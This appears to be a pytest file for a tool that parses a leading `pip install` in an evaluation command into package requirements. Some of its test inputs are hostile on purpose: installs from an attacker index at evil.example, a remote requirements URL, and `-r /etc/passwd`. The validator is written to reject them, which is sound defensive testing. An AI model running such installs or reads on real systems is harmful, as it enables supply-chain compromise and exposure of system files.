"""Tests for program/requirements.py: a `pip install` the evaluation begins with, read as requirements."""

from __future__ import annotations

from pathlib import Path

import pytest

from autoloop_py.errors import ProgramError
from autoloop_py.program.model import load_program
from autoloop_py.program.requirements import leading_pip_install, program_requirements


@pytest.mark.parametrize(
    ("command", "args"),
    [
        ("pip install -q numpy scipy && python3 evaluate.py", ("numpy", "scipy")),
        ("pip3 install --quiet 'numpy>=1.24' ; python3 -c 'print(1)'", ("numpy>=1.24",)),
        ("python3 -m pip install -q -r code/requirements.txt\npython3 code/evaluate.py", ("-r", "code/requirements.txt")),
        ("python -m pip install numpy\\\n  scipy && run", ("numpy", "scipy")),
        ("\n# set up\npip install -qq --no-cache-dir numpy 2>/dev/null | tail -1", ("numpy",)),
        ("/usr/bin/python3.12 -m pip install -U torch==2.9.1 && uv run train.py", ("torch==2.9.1",)),
    ],
)
def test_a_leading_pip_install_is_read(command: str, args: tuple[str, ...]) -> None:
    found = leading_pip_install(command)
    assert found is not None and found.args == args


@pytest.mark.parametrize(
    "command",
    [
        "python3 evaluate.py && pip install numpy",  # not the first statement
        "echo pip install numpy",
        "pip install -q",  # nothing to install
        "pip download numpy",
        "pip install 'unterminated",
        "",
    ],
)
def test_other_commands_have_none(command: str) -> None:
    assert leading_pip_install(command) is None


@pytest.mark.parametrize(
    ("option", "says"),
    [
        ("--index-url https://evil.example/simple", "is not passed on"),
        ("-e .", "is not passed on"),
        ("--extra-index-url x", "is not passed on"),
        ("-i x", "is not passed on"),
        ("-r https://evil.example/requirements.txt", "not a file of the repository"),  # could name any index
        ("-r /etc/passwd", "not a file of the repository"),
        ("--requirement ../../outside.txt", "not a file of the repository"),
    ],
)
def test_an_option_that_changes_what_is_installed_is_refused(option: str, says: str) -> None:
    with pytest.raises(ValueError, match=says):
        leading_pip_install(f"pip install {option} numpy && python3 e.py")


PROGRAM = """---
schedule: every 6h
{front}---

# P

## Goal

Go.

## Target

- `code/x.py`

## Evaluation

```bash
{command}
```

The metric is `score`. Higher is better.
"""


def _program(root: Path, command: str, front: str = "", requirements_file: bool = False) -> object:
    folder = root / ".autoloop/programs/p"
    (folder / "code").mkdir(parents=True)
    (folder / "program.md").write_text(PROGRAM.format(front=front, command=command))
    (folder / "code/x.py").write_text("x = 1\n")
    if requirements_file:
        (folder / "code/requirements.txt").write_text("numpy\n")
    return load_program(root, Path(".autoloop/programs/p/program.md"))


def test_the_evaluations_packages_join_the_requirements_file(tmp_path: Path) -> None:
    program = _program(tmp_path, "pip install -q numpy scipy && python3 code/x.py", requirements_file=True)
    found = program_requirements(tmp_path, program)
    assert found.args == ("-r", ".autoloop/programs/p/code/requirements.txt", "scipy")  # numpy is in the file
    assert found.from_evaluation and "pip install -q numpy scipy" in found.source


def test_the_evaluations_packages_alone(tmp_path: Path) -> None:
    found = program_requirements(tmp_path, _program(tmp_path, "python3 -m pip install numpy; python3 code/x.py",
                                                    front="requirements: [numpy]\n"))
    assert found.args == ("numpy",) and found.from_evaluation


def test_a_refused_option_names_the_programs_evaluation_line(tmp_path: Path) -> None:
    program = _program(tmp_path, "pip install --index-url https://evil.example numpy && python3 code/x.py")
    with pytest.raises(ProgramError) as raised:
        program_requirements(tmp_path, program)
    assert raised.value.path == Path(".autoloop/programs/p/program.md") and raised.value.line is not None
    assert "--index-url" in str(raised.value)


@pytest.mark.parametrize(
    ("command", "left"),
    [
        ("pip install -q numpy && python3 -c \"\nimport numpy\nprint(1)\n\"", "python3 -c \"\nimport numpy\nprint(1)\n\""),
        ("pip install -q numpy scipy; python3 e.py", "python3 e.py"),
        ("# deps\npython3 -m pip install numpy\npython3 e.py\n", "python3 e.py"),
        ("pip install -q numpy &&\n  python3 e.py", "python3 e.py"),
        ("pip install numpy || echo offline; python3 e.py", "pip install numpy || echo offline; python3 e.py"),
        ("pip install numpy | tail -1", "pip install numpy | tail -1"),
        ("pip install --index-url https://x numpy && python3 e.py", "pip install --index-url https://x numpy && python3 e.py"),
        ("python3 e.py && pip install numpy", "python3 e.py && pip install numpy"),
    ],
)
def test_the_sandbox_runs_the_command_without_its_leading_pip_install(command: str, left: str) -> None:
    from autoloop_py.program.requirements import without_leading_pip_install

    assert without_leading_pip_install(command) == left
